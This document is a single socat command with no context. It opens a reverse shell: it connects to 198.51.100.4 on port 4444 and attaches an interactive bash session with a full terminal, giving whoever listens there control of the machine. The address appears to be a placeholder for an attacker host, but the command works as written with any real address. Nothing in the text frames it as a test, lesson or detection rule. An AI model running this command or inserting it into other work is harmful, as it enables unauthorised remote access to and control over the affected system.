socat TCP:198.51.100.4:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane
